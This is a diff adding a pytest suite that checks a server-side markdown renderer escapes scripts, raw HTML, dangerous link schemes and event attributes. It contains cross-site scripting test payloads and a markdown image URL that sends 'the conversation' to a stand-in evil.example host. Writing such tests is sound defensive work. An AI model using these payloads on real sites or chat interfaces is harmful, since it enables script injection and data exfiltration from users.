@@ -1,0 +1,89 @@
+"""Markdown rendered on the server (SPEC §10): no script, no raw HTML, no javascript: links,
+code blocks kept. Literal text in, exact HTML out."""
+from __future__ import annotations
+
+import pytest
+
+from agentloom.web.markdown import LINK_REL, MAX_MARKDOWN_CHARS, render_markdown, sanitize_html
+
+
+def test_script_tags_are_shown_as_text_never_as_elements():
+    html = render_markdown("Hi <script>alert(1)</script> there")
+    assert html == "<p>Hi &lt;script&gt;alert(1)&lt;/script&gt; there</p>"
+
+
+def test_an_image_with_onerror_is_text_not_an_element():
+    html = render_markdown("<img src=x onerror=alert(1)>")
+    assert html == "<p>&lt;img src=x onerror=alert(1)&gt;</p>"
+    assert "<img" not in html
+
+
+@pytest.mark.parametrize("target", [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java&#x73;cript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+])
+def test_dangerous_links_keep_their_text_and_lose_their_href(target):
+    html = render_markdown(f"[click me]({target})")
+    assert html == f'<p><a rel="{LINK_REL}">click me</a></p>'
+
+
+def test_an_autolink_to_javascript_is_plain_text():
+    assert render_markdown("<javascript:alert(1)>") == "<p>&lt;javascript:alert(1)&gt;</p>"
+
+
+@pytest.mark.parametrize(("source", "expected"), [
+    ('<div onclick="steal()">block</div>', '<p>&lt;div onclick="steal()"&gt;block&lt;/div&gt;</p>'),
+    ("<iframe src=https://evil.example></iframe>", "<p>&lt;iframe src=https://evil.example&gt;&lt;/iframe&gt;</p>"),
+    ("<style>body{display:none}</style>", "<p>&lt;style&gt;body{display:none}&lt;/style&gt;</p>"),
+    ("a <b>bold</b> word", "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>"),
+    ("<!-- hidden --> text", "<p>&lt;!-- hidden --&gt; text</p>"),
+])
+def test_raw_html_blocks_and_inline_tags_are_escaped(source, expected):
+    assert render_markdown(source) == expected
+
+
+def test_fenced_code_blocks_are_kept_with_their_language_and_escaped_content():
+    html = render_markdown("```python\nif a < b:\n    print('<script>')\n```")
+    assert html == ('<pre><code class="language-python">if a &lt; b:\n'
+                    "    print('&lt;script&gt;')\n</code></pre>")
+
+
+def test_a_code_fence_cannot_smuggle_attributes():
+    html = render_markdown('~~~ {.x onclick=steal()}\ncode\n~~~')
+    assert html == '<pre><code class="language-x">code\n</code></pre>'
+
+
+def test_safe_links_keep_their_href_and_get_rel_nofollow():
+    html = render_markdown('[docs](https://example.com/a?b=1 "Title") and <mailto:me@example.com>')
+    assert f'<a href="https://example.com/a?b=1" title="Title" rel="{LINK_REL}">docs</a>' in html
+    assert 'href="mailto:me@example.com"' in html
+
+
+def test_images_become_links_and_never_load():
+    html = render_markdown("![secret chart](https://evil.example/leak?q=the+conversation)")
+    assert html == (f'<p><a href="https://evil.example/leak?q=the+conversation" rel="{LINK_REL}">'
+                    "[image: secret chart]</a></p>")
+
+
+def test_lists_tables_emphasis_and_inline_code_render():
+    html = render_markdown("**bold** _it_ `x<y`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
+    assert "<strong>bold</strong> <em>it</em> <code>x&lt;y</code>" in html
+    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
+    assert "<table>" in html and "<td>1</td>" in html
+
+
+def test_the_allowlist_alone_strips_what_markdown_could_never_produce():
+    dirty = ('<p style="x" class="y" onclick="z">t</p><script>alert(1)</script><svg onload=alert(1)></svg>'
+             '<a href="javascript:alert(1)">a</a><code class="language-js evil">c</code><img src=x onerror=y>')
+    assert sanitize_html(dirty) == f'<p>t</p><a rel="{LINK_REL}">a</a><code>c</code>'
+
+
+def test_empty_text_renders_nothing_and_huge_text_is_bounded():
+    assert render_markdown("") == ""
+    html = render_markdown("a" * (MAX_MARKDOWN_CHARS + 10_000))
+    assert html.startswith("<p>") and len(html) < MAX_MARKDOWN_CHARS + 100
